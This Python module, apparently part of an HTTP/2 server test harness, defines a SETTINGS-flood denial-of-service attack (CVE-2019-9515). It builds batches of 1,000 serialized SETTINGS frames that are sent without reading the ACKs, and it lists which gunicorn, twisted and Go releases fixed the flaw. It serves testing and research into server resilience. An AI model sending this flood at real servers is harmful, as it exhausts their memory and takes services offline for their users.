"""Settings flood (CVE-2019-9515): SETTINGS frames without end and never reading, so a server that
queues every SETTINGS ACK grows its send queue (RFC 9113 section 6.5.3; section 10.5)."""
from hyperframe.frame import SettingsFrame

from h2grid.attacks.base import Attack, Fix

FRAMES = 1000
MAX_CONCURRENT_STREAMS = 0x3
BATCH = SettingsFrame(0, settings={MAX_CONCURRENT_STREAMS: 100}).serialize() * FRAMES

ATTACK = Attack(
    key="settings-flood", title="Settings flood", cve="CVE-2019-9515", rfc="RFC 9113 section 6.5.3, section 10.5",
    sends=f"SETTINGS frames (MAX_CONCURRENT_STREAMS 100), {FRAMES} per write, never reading the ACKs",
    batch=lambda conn: BATCH, reads=False,
    fixes=(Fix("gunicorn", "27.0.1", "at most 1,000 PING, SETTINGS and empty DATA frames per 10 s a connection, then GOAWAY ENHANCE_YOUR_CALM "
                                     "(gunicorn/http2/connection.py and async_connection.py CONTROL_FRAME_RATE_LIMIT; the installed release, earlier ones not checked)"),
           Fix("twisted", "19.7.0", "buffered control frames bounded (17 KiB), then the connection is closed "
                                    "(twisted#9694)"),
           Fix("go", "go1.12.8", "the control-frame queue bound of the 2019 fixes covers SETTINGS ACKs "
                                 "(golang/go#33606)"),
           Fix("hypercorn", "", "no limit of its own")),
)
